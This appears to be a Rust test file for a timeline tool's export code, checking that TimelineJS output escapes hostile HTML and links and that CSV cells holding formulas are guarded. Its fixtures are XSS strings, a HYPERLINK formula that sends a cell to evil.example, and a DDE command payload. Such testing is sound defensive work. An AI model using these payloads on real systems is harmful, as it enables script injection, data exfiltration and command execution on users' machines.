//! Exports of hostile text: a TimelineJS page shows it as text and follows no `javascript:`
//! link, and a spreadsheet shows CSV cells as text instead of running them as formulas.

#![allow(clippy::unwrap_used)] // tests may unwrap: a panic is a failure with its reason

use std::path::Path;
use std::process::Command;

use detente::export::{CsvCells, EventFilter, ExportOptions, events_csv_with, timelinejs_json};
use detente::import::{ImportFormat, ImportOptions, import};
use detente::model::{DateSpec, Id, Project, Tag};
use serde_json::Value;

const EVENT: &str = "ev-miami-talks";
const WORDING: &str = "<script>alert('wording')</script> this weekend";
const TAG: &str = "<img src=x onerror=alert('group')> & co";
const URL: &str = "javascript:alert('link')";

/// The sample with one event whose wording, first tag and source URLs are hostile.
fn hostile_project() -> Project {
    let mut p = detente::io::sample_project().unwrap();
    let tag = Id::new("tag-hostile");
    p.tags.push(Tag {
        id: tag,
        name: TAG.into(),
        color: None,
    });
    let e = p
        .events
        .iter_mut()
        .find(|e| e.id.as_str() == EVENT)
        .unwrap();
    e.tags.insert(0, tag);
    e.date.set_wording(Some(WORDING));
    let claims: Vec<Id> = e.all_claim_ids().collect();
    assert!(!claims.is_empty());
    for c in p.claims.iter_mut().filter(|c| claims.contains(&c.id)) {
        c.url = Some(URL.into());
    }
    assert!(detente::model::validate(&p).is_empty());
    p
}

fn slide<'v>(json: &'v Value, id: &str) -> &'v Value {
    json["events"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["unique_id"] == id)
        .unwrap()
}

/// Every string TimelineJS reads from a slide, outside Detente's own `detente` object.
fn rendered_strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(s) => out.push(s.clone()),
        Value::Array(items) => items.iter().for_each(|v| rendered_strings(v, out)),
        Value::Object(map) => map
            .iter()
            .filter(|(k, _)| k.as_str() != detente::import::TIMELINEJS_EXTRA_KEY)
            .for_each(|(_, v)| rendered_strings(v, out)),
        _ => {}
    }
}

#[test]
fn timelinejs_escapes_what_timelinejs_shows_as_html_and_links_only_the_web() {
    let mut p = hostile_project();
    // A web link on another event's source stays a link.
    let other = p
        .events
        .iter()
        .find(|e| e.id.as_str() != EVENT && e.all_claim_ids().next().is_some())
        .unwrap();
    let claim = other.all_claim_ids().next().unwrap();
    let claim = p.claims.iter_mut().find(|c| c.id == claim).unwrap();
    claim.url = Some("HTTPS://example.org/report?a=1&b=2".into());
    let json = timelinejs_json(&p, &ExportOptions::default()).unwrap();
    let value: Value = serde_json::from_str(&json).unwrap();
    let s = slide(&value, EVENT);
    assert_eq!(
        s["display_date"],
        "&lt;script&gt;alert('wording')&lt;/script&gt; this weekend"
    );
    assert_eq!(
        s["group"],
        "&lt;img src=x onerror=alert('group')&gt; &amp; co"
    );
    let text = s["text"]["text"].as_str().unwrap();
    assert!(!text.contains("href=\"javascript"), "{text}");
    assert!(
        text.contains("(javascript:alert('link'))"),
        "shown as text: {text}"
    );
    let mut strings = Vec::new();
    rendered_strings(&value, &mut strings);
    for string in strings {
        assert!(
            !string.contains("<script") && !string.contains("<img"),
            "unescaped: {string}"
        );
    }
    assert!(
        json.contains("<a href=\\\"HTTPS://example.org/report?a=1&amp;b=2\\\">"),
        "no web link left"
    );
}

/// The export reads back as it was, through Detente's own object or, for a file another
/// tool rewrote without it, through the escaped texts TimelineJS shows.
#[test]
fn timelinejs_escaped_wording_and_group_read_back_as_they_were() {
    let p = hostile_project();
    let json = timelinejs_json(&p, &ExportOptions::default()).unwrap();
    let mut foreign: Value = serde_json::from_str(&json).unwrap();
    for s in foreign["events"].as_array_mut().unwrap() {
        s.as_object_mut()
            .unwrap()
            .remove(detente::import::TIMELINEJS_EXTRA_KEY);
    }
    for file in [json, foreign.to_string()] {
        let back = import(
            file.as_bytes(),
            ImportFormat::TimelineJs,
            &ImportOptions::named("rt.json"),
        )
        .unwrap()
        .project;
        let e = back.events.iter().find(|e| e.id.as_str() == EVENT).unwrap();
        assert_eq!(e.date.wording(), Some(WORDING));
        let lookup = back.lookup();
        let tags: Vec<&str> = e.tags.iter().map(|t| lookup.name_of(&back, *t)).collect();
        assert_eq!(tags.first(), Some(&TAG), "{tags:?}");
        assert_eq!(tags.iter().filter(|t| t.contains("&amp;")).count(), 0);
    }
}

const TITLE: &str = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Miami talks\")";
const DESCRIPTION: &str = "+cmd|' /C calc'!A0";
const BCE: &str = "-0044-03-15";

/// The sample with one event whose title and description are formulas, dated before the
/// common era (an EDTF date that starts with `-`).
fn formula_project() -> Project {
    let mut p = detente::io::sample_project().unwrap();
    let e = p
        .events
        .iter_mut()
        .find(|e| e.id.as_str() == EVENT)
        .unwrap();
    e.title = TITLE.into();
    e.description = DESCRIPTION.into();
    e.date = DateSpec::parse(BCE)
        .unwrap()
        .with_wording("@ the Ides of March");
    p
}

fn csv_row(bytes: &[u8], id: &str) -> csv::StringRecord {
    csv::Reader::from_reader(bytes)
        .records()
        .map(Result::unwrap)
        .find(|r| &r[0] == id)
        .unwrap()
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_guarded_numbers_and_dates_are_not() {
    let p = formula_project();
    let guarded = events_csv_with(&p, &EventFilter::default(), CsvCells::Guarded).unwrap();
    assert_eq!(
        guarded,
        detente::export::events_csv(&p, &EventFilter::default()).unwrap(),
        "the default is guarded"
    );
    let row = csv_row(&guarded, EVENT);
    assert_eq!(&row[5], format!("'{TITLE}"));
    assert_eq!(&row[13], format!("'{DESCRIPTION}"));
    assert_eq!(&row[2], "'@ the Ides of March");
    assert_eq!(&row[1], BCE, "an EDTF date stays a date");
    assert_eq!((&row[3], &row[4]), (BCE, BCE), "so do its bounds");
    assert!(
        row[11].starts_with('-'),
        "a negative longitude stays a number"
    );
    for (i, cell) in row.iter().enumerate() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
                || cell.parse::<f64>().is_ok()
                || DateSpec::parse(cell).is_ok(),
            "column {i}: {cell:?}"
        );
    }
    // Every row: nothing a spreadsheet would run.
    let mut reader = csv::Reader::from_reader(guarded.as_slice());
    for record in reader.records().map(Result::unwrap) {
        for cell in &record {
            assert!(!cell.starts_with(['=', '@', '\t', '\r']), "{cell:?}");
        }
    }

    let raw = events_csv_with(&p, &EventFilter::default(), CsvCells::Raw).unwrap();
    let row = csv_row(&raw, EVENT);
    assert_eq!((&row[5], &row[13]), (TITLE, DESCRIPTION));

    // The importer takes the guard off again.
    let back = import(&guarded, ImportFormat::Csv, &ImportOptions::named("rt.csv")).unwrap();
    assert!(back.report.skipped.is_empty(), "{}", back.report.to_text());
    let e = back
        .project
        .events
        .iter()
        .find(|e| e.id.as_str() == EVENT)
        .unwrap();
    assert_eq!((e.title.as_str(), &*e.description), (TITLE, DESCRIPTION));
    assert_eq!(e.date.edtf_text(), BCE);
}

#[test]
fn command_line_csv_is_guarded_unless_raw() {
    let dir = std::env::temp_dir().join(format!("detente-hostile-csv-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    let project = dir.join("p.detente.ron");
    detente::io::save_project(&formula_project(), &project).unwrap();
    let export = |out: &Path, extra: &[&str]| {
        Command::new(env!("CARGO_BIN_EXE_detente"))
            .arg("export")
            .arg(&project)
            .args(["--format", "csv", "-o"])
            .arg(out)
            .args(extra)
            .output()
            .unwrap()
    };
    let guarded = dir.join("guarded.csv");
    assert!(export(&guarded, &[]).status.success());
    assert_eq!(
        &csv_row(&std::fs::read(&guarded).unwrap(), EVENT)[5],
        format!("'{TITLE}")
    );
    let raw = dir.join("raw.csv");
    assert!(export(&raw, &["--raw"]).status.success());
    assert_eq!(&csv_row(&std::fs::read(&raw).unwrap(), EVENT)[5], TITLE);

    let output = Command::new(env!("CARGO_BIN_EXE_detente"))
        .arg("export")
        .arg(&project)
        .args(["--format", "markdown", "--raw", "-o"])
        .arg(dir.join("brief.md"))
        .output()
        .unwrap();
    assert!(!output.status.success());
    assert!(String::from_utf8_lossy(&output.stderr).contains("--raw applies to csv"));
    let _ = std::fs::remove_dir_all(&dir);
}
